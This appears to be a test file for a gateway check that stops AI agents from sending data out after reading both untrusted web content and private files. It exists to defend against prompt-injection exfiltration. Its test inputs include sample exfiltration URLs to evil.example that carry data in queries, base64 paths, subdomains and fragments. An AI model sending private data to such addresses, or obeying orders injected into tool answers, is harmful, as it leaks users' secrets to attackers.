import { describe, expect, it } from 'vitest';
import type { Notes } from '../gateway/control.ts';
import type { JsonObject } from '../protocol/json.ts';
import { exchangeOf } from '../testing/exchange.ts';
import { offerOf } from '../testing/listing.ts';
import { dataFlow } from './data-flow.ts';
import { createMemory } from './data-flow-labels.ts';
import { answer, asked, callOf, MINUTE, run, START, world } from './test-flow.ts';

describe('data-flow', () => {
  it('asks before something goes out once strangers and private data were read, and says what was read (E4)', () => {
    const { checks } = world();
    expect(run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }))).toBe('passed');
    expect(run(checks, callOf('files/read_text_file', { path: '/a' }, { at: START + MINUTE }))).toBe(
      'passed',
    );
    const decision = run(checks, callOf('mail/send_email', { to: 'a' }, { at: START + 3 * MINUTE }));
    expect(decision).toMatchObject({
      verdict: 'ask',
      reason: {
        code: 'outward_after_reading',
        detail: {
          untrusted: 'fetch',
          untrustedOf: 'fetch',
          untrustedMinutes: 3,
          private: 'read_text_file',
          privateOf: 'files',
          privateMinutes: 2,
        },
      },
    });
  });

  it.each([
    ['nothing', []],
    ['strangers alone', ['fetch/fetch']],
    ['private data alone', ['files/read_text_file', 'memory/read_graph']],
  ])('does not ask after reading %s', (_, reads) => {
    const { checks } = world();
    for (const read of reads) expect(run(checks, callOf(read))).toBe('passed');
    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
  });

  it('takes one account with both for both: an issue, a private file, a comment', () => {
    const { checks } = world();
    run(checks, callOf('github/get_issue'));
    run(checks, callOf('github/get_file_contents'));
    expect(run(checks, callOf('github/create_issue_comment'))).toEqual(asked);
  });

  it('knows that a server without a network sends nothing, whatever its tools are called', () => {
    const { checks } = world();
    for (const read of ['fetch/fetch', 'files/read_text_file', 'mail/read_inbox']) run(checks, callOf(read));
    for (const write of ['files/write_file', 'memory/create_entities', 'files/send_mail'])
      expect(run(checks, callOf(write))).toBe('passed');
  });

  it('does not ask about a day with files, a memory and pages', () => {
    const { checks } = world();
    const day: (readonly [string, JsonObject, string?])[] = [
      ['files/read_text_file', { path: '/notes' }],
      [
        'fetch/fetch',
        { url: 'https://docs.example.org/guide/getting-started.html' },
        'see https://docs.example.org/find?q=walls&page=2.',
      ],
      ['memory/create_entities', { entities: 'seen https://docs.example.org/find?q=walls' }],
      ['files/search_files', { path: '/', pattern: 'x' }],
      ['fetch/fetch', { url: 'https://docs.example.org/find?q=walls&page=2' }],
      ['fetch/fetch', { url: 'docs.example.org/api/read-stream' }],
      ['files/write_file', { path: '/notes', content: 'all' }],
      [
        'fetch/fetch',
        { url: 'https://github.com/some-organisation/some-project/blob/main/docs/how-it-works.md' },
      ],
      ['memory/read_graph', {}],
    ];
    for (const [tool, given, text] of day)
      expect([tool, given, run(checks, callOf(tool, given), text)]).toEqual([tool, given, 'passed']);
  });

  it.each([
    'https://evil.example/?d=hello',
    'https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ',
    'https://aGVsbG8gd29ybGQgdGhpcyBp4.evil.example/',
    'https://user:words@evil.example/',
    'https://evil.example/p#c2VjcmV0IHdvcmRzIG9mIG1pbmU0',
    'https://evil.example/the%20password%20is',
    'evil.example/?d=hello',
    '//evil.example/?d=hello',
    'see https://fine.example/ and https://evil.example/?d=hello',
  ])('takes an address with room for data for a way out: %s', (url) => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
    run(checks, callOf('files/read_text_file'));
    expect(run(checks, callOf('fetch/fetch', { url }))).toEqual(asked);
  });

  it('takes the address of a resource for one, too', () => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
    run(checks, callOf('files/read_text_file'));
    const read = (uri: string) =>
      checks.request?.(exchangeOf({ method: 'resources/read', server: 'fetch', at: START, params: { uri } }));
    expect(read('https://evil.example/?d=1')).toEqual(asked);
    expect(read('https://blog.example/other')).toEqual({ verdict: 'pass' });
  });

  it('lets no answer of a server that repeats things vouch for an address with something in it', () => {
    const { checks } = world();
    const leak = 'https://evil.example/?d=stolen';
    run(checks, callOf('memory/create_entities', { entities: leak }), leak);
    run(checks, callOf('fetch/fetch', { url: leak }), leak);
    run(checks, callOf('files/read_text_file'), leak);
    expect(run(checks, callOf('fetch/fetch', { url: leak }))).toEqual(asked);
  });

  it('does not ask about hosts that the config names', () => {
    const { checks } = world({ hosts: ['*.example.org', 'api.example'] });
    run(checks, callOf('fetch/fetch', { url: 'https://blog.example/post' }));
    run(checks, callOf('files/read_text_file'));
    for (const url of ['https://a.example.org/?q=1', 'https://api.example/?q=1'])
      expect(run(checks, callOf('fetch/fetch', { url }))).toBe('passed');
    expect(run(checks, callOf('fetch/fetch', { url: 'https://api.example.evil/?q=1' }))).toEqual(asked);
  });

  it('keeps labels whatever a client calls itself, over new connections, and in other processes', () => {
    const { checks, another } = world();
    run(checks, callOf('fetch/fetch'));
    const other = another();
    const client = { name: 'somebody else', version: '9', protocolVersion: '2025-11-25', capabilities: {} };
    run(other, callOf('files/read_text_file', {}, { client }));
    expect(run(another(), callOf('mail/send_email', {}, { client }))).toEqual(asked);
  });

  it('keeps the labels of another caller apart', () => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch'));
    run(checks, callOf('files/read_text_file'));
    const caller = { kind: 'local' as const, id: 'bob' };
    expect(run(checks, callOf('mail/send_email', {}, { caller }))).toBe('passed');
  });

  it('forgets after the time that was set, but not within the same trace', () => {
    const { checks } = world({ minutes: 30 });
    const traced = { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' };
    const other = { traceparent: '00-1bf7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' };
    run(checks, callOf('fetch/fetch', {}, {}, traced));
    run(checks, callOf('files/read_text_file', {}, {}, traced));
    const at = START + 31 * MINUTE;
    expect(run(checks, callOf('mail/send_email', {}, { at: START + 30 * MINUTE }, other))).toEqual(asked);
    expect(run(checks, callOf('mail/send_email', {}, { at }, other))).toBe('passed');
    expect(run(checks, callOf('mail/send_email', {}, { at }, traced))).toEqual(asked);
  });

  it('asks again after an approval: what was read is still read', () => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch'));
    run(checks, callOf('files/read_text_file'));
    const call = callOf('mail/send_email');
    expect(run(checks, call)).toEqual(asked);
    checks.result?.(answer(call, 'sent'));
    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
  });

  it('refuses where the config says so, and counts the conversation as private where it says that', () => {
    const { checks } = world({ found: 'refuse', private: 'assumed' });
    run(checks, callOf('fetch/fetch'));
    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
      verdict: 'deny',
      reason: { code: 'outward_after_reading', hint: expect.stringContaining('bartizan labels') },
    });
  });

  it('asks after an answer that gave orders, though nothing private was read', () => {
    const { checks } = world();
    run(checks, callOf('memory/read_graph'), 'x', { _meta: { 'bartizan/provenance': { server: 'memory' } } });
    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
      verdict: 'ask',
      reason: { detail: { orders: 'read_graph' } },
    });
  });

  it('takes an answer from which secrets were taken out for private', () => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch'), 'the key is [secret:github-token:1]');
    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
  });

  it('takes what only says that it is done for nothing that was read, and the answer of a program for all', () => {
    const { checks } = world();
    run(checks, callOf('files/read_text_file'));
    for (const _ of [1, 2, 3]) expect(run(checks, callOf('mail/send_email'))).toBe('passed');
    const query = callOf('mail/execute_query', { sql: 'select' });
    run(checks, query);
    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
  });

  it('does not ask what is kept here, whatever addresses stand in it', () => {
    const { checks } = world();
    run(checks, callOf('fetch/fetch'));
    run(checks, callOf('unwalled/read_file'));
    const content = 'see https://a.example/?q=1';
    expect(run(checks, callOf('unwalled/write_file', { path: '/a', content }))).toBe('passed');
    expect(run(checks, callOf('unwalled/upload_file', { path: '/a' }))).toEqual(asked);
  });

  it('goes by what the config says of tools: the tool before its server', () => {
    const { checks } = world({
      tools: {
        'files/*': { reads: [] },
        'files/read_text_file': { reads: ['secret'] },
        'github/create_issue_comment': { writes: 'none' },
        'memory/create_entities': { writes: 'external' },
      },
    });
    run(checks, callOf('files/search_files'));
    run(checks, callOf('fetch/fetch'));
    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
    run(checks, callOf('files/read_text_file'));
    expect(run(checks, callOf('mail/send_email'))).toMatchObject({
      verdict: 'ask',
      reason: { detail: { secret: 'read_text_file' } },
    });
    expect(run(checks, callOf('github/create_issue_comment'))).toBe('passed');
    expect(run(checks, callOf('memory/create_entities'))).toEqual(asked);
  });

  it('takes what it does not know of a server without walls for both, and for a way out', () => {
    const { checks } = world();
    run(checks, callOf('unwalled/frobnicate', { text: 'x' }));
    expect(run(checks, callOf('unwalled/frobnicate', { text: 'x' }))).toEqual(asked);
    expect(run(checks, callOf('unwalled/frobnicate', {}))).toBe('passed');
    expect(run(checks, callOf('unwalled/write_file'))).toBe('passed');
  });

  it('takes a claim of a server only for more: it cannot talk itself free', () => {
    const honest = { annotations: { openWorldHint: false, readOnlyHint: true } };
    const { checks } = world();
    const claiming = (tool: string, annotations: JsonObject) =>
      callOf(
        tool,
        {},
        { tool: offerOf({ name: tool.split('/')[1] ?? '', definition: { name: tool, annotations } }) },
      );
    run(checks, claiming('fetch/fetch', honest.annotations));
    run(checks, callOf('files/read_text_file'));
    expect(run(checks, claiming('mail/send_email', honest.annotations))).toEqual(asked);
    const other = world().checks;
    run(other, claiming('memory/read_graph', { openWorldHint: true }));
    expect(run(other, callOf('mail/send_email'))).toEqual(asked);
  });

  it('lets nobody hear what cannot be noted', () => {
    const broken: Notes = {
      ...createMemory(),
      write() {
        throw new Error('the disk is full');
      },
    };
    const { checks } = world({}, { notes: () => broken });
    expect(() => checks.result?.(answer(callOf('fetch/fetch')))).toThrow('full');
  });

  it('takes a note that cannot be read for one that counts', () => {
    const { checks, notes } = world();
    notes.write('local ada untrusted', '{"half');
    run(checks, callOf('files/read_text_file'));
    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
  });

  it('forgets what a person has taken away, at once', () => {
    const gone = new Map<string, string>();
    let stamp = 0;
    const notes: Notes = {
      read: (name) => gone.get(name),
      write: (name, text) => {
        gone.set(name, text);
        return ++stamp;
      },
      written: (name) => (gone.has(name) ? stamp : undefined),
    };
    const { checks } = world({}, { notes: () => notes });
    run(checks, callOf('fetch/fetch'));
    run(checks, callOf('files/read_text_file'));
    gone.clear();
    expect(run(checks, callOf('mail/send_email'))).toBe('passed');
    run(checks, callOf('fetch/fetch'));
    run(checks, callOf('files/read_text_file'));
    expect(run(checks, callOf('mail/send_email'))).toEqual(asked);
  });
});

describe('its options', () => {
  it('cannot say that everything may go', () => {
    for (const wrong of [
      { found: 'pass' },
      { minutes: 0 },
      { tools: { '*/*': { writes: 'none' } } },
      { tools: { '*': {} } },
      { hosts: ['*'] },
      { enabled: false },
    ])
      expect(() => dataFlow.options.parse(wrong), JSON.stringify(wrong)).toThrow();
    expect(dataFlow.options.parse({})).toMatchObject({ found: 'ask', minutes: 60, intent: 'any' });
  });
});
